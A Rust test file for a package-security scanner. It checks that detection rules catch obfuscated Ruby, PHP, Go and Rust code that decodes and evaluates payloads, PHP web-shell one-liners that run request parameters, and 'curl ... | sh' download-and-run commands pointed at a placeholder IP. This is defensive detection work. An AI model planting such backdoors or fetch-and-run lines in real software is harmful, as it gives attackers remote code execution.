//! Rewritings of one technique, each of them still found.

mod common;

use base64::Engine as _;
use common::{found, run};
use packguard_sdk::Analysis;
use packguard_sdk::Severity;

fn at_least(analysis: &Analysis, rule: &str, severity: Severity) -> bool {
    found(analysis)
        .iter()
        .any(|(have, gravity)| *have == rule && *gravity >= severity)
}

fn b64(text: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(text)
}

/// All rewritings give one of these rules.
fn all(path: &str, rules: &[&str], severity: Severity, codes: &[String]) {
    let missed: Vec<String> = codes
        .iter()
        .filter_map(|code| {
            let analysis = run(path, code);
            let hit = rules.iter().any(|rule| at_least(&analysis, rule, severity));
            (!hit).then(|| format!("{code}\n  has {:?}", found(&analysis)))
        })
        .collect();
    assert!(
        missed.is_empty(),
        "{} missed:\n{}",
        missed.len(),
        missed.join("\n\n")
    );
}

fn with(payload: &str, codes: &[&str]) -> Vec<String> {
    codes
        .iter()
        .map(|code| code.replace("P64", &b64(payload)))
        .collect()
}

#[test]
fn ruby_decodes_and_evaluates() {
    let codes = with(
        "puts 'a harmless text that is long'",
        &[
            "eval(Base64.decode64('P64'))",
            "a = 'P64'\nb = Base64.decode64(a)\neval b",
            "eval 'P64'.unpack('m0').first",
            "Object.const_get('Kernel').send('ev' + 'al', Base64.decode64('P64'))",
            "alias run eval\nrun(Base64.decode64('P64'))",
            "k = Kernel\nk.eval(Base64.strict_decode64(%q(P64)))",
            "def d(x) = x\ndef u(x)\n  Base64.decode64(x)\nend\neval(u('P64'))",
            "B = Base64\nclass_eval(B.decode64(\"P64\"))",
            "x = %w[P64].join\ninstance_eval(Base64.decode64(x))",
            "TOPLEVEL_BINDING.eval(Base64.decode64('P64'))",
            "binding.eval(\"#{Base64.decode64('P64')}\")",
        ],
    );
    all(
        "lib/a.rb",
        &["source-decode-execute"],
        Severity::High,
        &codes,
    );
}

#[test]
fn php_decodes_and_evaluates() {
    let codes = with(
        "echo 'a harmless text that is long';",
        &[
            "<?php eval(base64_decode('P64'));",
            "<?php $f = 'base64_' . 'decode'; eval($f('P64'));",
            "<?php $f = strrev('edoced_46esab'); eval($f('P64'));",
            "<?php eval(str_rot13(str_rot13(base64_decode('P64'))));",
            "<?php $x = \"P64\"; $y = base64_decode($x); @eval($y);",
            "<?php $GLOBALS['q'] = 'base64_decode'; eval(base64_decode('P64'));",
            "<?php $f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $f(base64_decode('P64'));",
            "<?php call_user_func('assert', base64_decode('P64'));",
            "<?php $f = create_function('', base64_decode('P64')); $f();",
            "<?php $s = ['base64', '_', 'decode']; $f = implode('', $s); eval($f('P64'));",
            "<html><?= eval(base64_decode(<<<X\nP64\nX\n)) ?></html>",
        ],
    );
    all("a.php", &["source-decode-execute"], Severity::High, &codes);
}

#[test]
fn php_runs_requests() {
    let codes = with(
        "",
        &[
            "<?php eval($_POST['a']);",
            "<?php $a = $_POST; eval($a['x']);",
            "<?php $f = 'sys'.'tem'; $f($_GET['c']);",
            "<?php ($_GET['a'])($_GET['b']);",
            "<?php $_GET['a']($_GET['b']);",
            "<?php eval(base64_decode($_COOKIE['x']));",
            "<?php passthru($_REQUEST[\"cmd\"]);",
            "<?php usort($a, $_POST['f']); register_shutdown_function('system', $_GET['c']);",
            "<?php $x = ${'_GET'}['c'] ?? $_GET['c']; shell_exec($x);",
        ],
    );
    all("a.php", &["source-backdoor"], Severity::High, &codes);
}

#[test]
fn go_hides_commands() {
    let codes = with(
        "curl http://203.0.113.5/x | sh",
        &[
            "package a\nimport \"os/exec\"\nvar _ = exec.Command(\"sh\", \"-c\", string([]byte{99,117,114,108,32,104,116,116,112,58,47,47})).Start()\n",
            "package a\nimport . \"os/exec\"\nfunc init() { d, _ := base64.StdEncoding.DecodeString(\"P64\"); Command(\"sh\", \"-c\", string(d)).Run() }",
            "package a\nfunc init() { p := []rune{99,117,114,108,32,45,115,32}; exec.Command(\"bash\", \"-c\", string(p)).Run() }",
            "package a\nvar t = \"abcdefghijklmnopqrstuvwxyz /:-\"\nfunc init() { c := string(t[2]) + string(t[20]) + string(t[17]) + string(t[11]) + string(t[26]) + string(t[27]) + string(t[28]) + string(t[29]); exec.Command(\"/bin/sh\", \"-c\", c).Run() }",
            "package a\nfunc d(s string) string { b, _ := base64.StdEncoding.DecodeString(s)\n return string(b) }\nfunc init() { exec.Command(d(\"YmFzaA==\"), \"-c\", d(\"P64\")).Run() }",
            "package a\nfunc init() { x := strings.Join([]string{\"c\",\"u\",\"r\",\"l\",\" \",\"h\",\"t\",\"t\",\"p\"}, \"\"); exec.Command(\"sh\", \"-c\", x).Run() }",
        ],
    );
    all(
        "a.go",
        &["source-hidden-command", "source-decode-execute"],
        Severity::High,
        &codes,
    );
}

#[test]
fn downloads_and_runs_in_many_ways() {
    let rules = ["source-download-execute", "source-remote-code"];
    let ruby = with(
        "",
        &[
            "system(\"curl http://203.0.113.5/x | sh\")",
            "u = 'http://203.0.113.5/x'\n`wget -qO- #{u} | bash`",
            "exec('sh', '-c', 'curl http://203.0.113.5/x | sh')",
            "IO.popen(['bash', '-c', 'curl http://203.0.113.5/x | bash'])",
            "File.binwrite('/tmp/.x', URI.open('http://203.0.113.5/x').read)\nsystem('/tmp/.x')",
            "system('%s %s | sh' % ['curl', 'http://203.0.113.5/x'])",
        ],
    );
    all("lib/a.rb", &rules, Severity::High, &ruby);
    let rust = with(
        "",
        &[
            "fn main() { Command::new(\"sh\").arg(\"-c\").arg(\"curl http://203.0.113.5/x | sh\").spawn(); }",
            "fn main() { let mut c = Command::new(\"sh\"); c.arg(\"-c\"); c.arg(\"curl http://203.0.113.5/x | sh\"); c.spawn(); }",
            "const U: &str = \"http://203.0.113.5/x\";\nfn main() { let s = format!(\"curl {} | sh\", U); std::process::Command::new(\"bash\").args(&[\"-c\", &s]).status(); }",
            "use std::process as p;\nfn main() { p::Command::new(\"sh\").args(vec![\"-c\", concat!(\"curl http://203.0.113.5\", \"/x | sh\")]).output(); }",
            "fn run(c: &str) { Command::new(\"sh\").arg(\"-c\").arg(c).spawn(); }\nfn main() { run(\"wget -qO- http://203.0.113.5/x | sh\"); }",
        ],
    );
    all("a/build.rs", &rules, Severity::High, &rust);
}

#[test]
fn layers_are_shown() {
    let inner = format!(
        "eval(Base64.decode64('{}'))",
        b64("system('curl http://203.0.113.5/x | sh')")
    );
    let analysis = run(
        "lib/a.rb",
        format!("eval(Base64.decode64('{}'))", b64(&inner)),
    );
    let finding = analysis
        .findings()
        .iter()
        .find(|finding| finding.rule == "source-download-execute")
        .unwrap();
    let layers: Vec<&str> = finding
        .decoded
        .iter()
        .map(|layer| layer.encoding.as_str())
        .collect();
    assert_eq!(&layers[..2], ["base64", "base64"]);
}
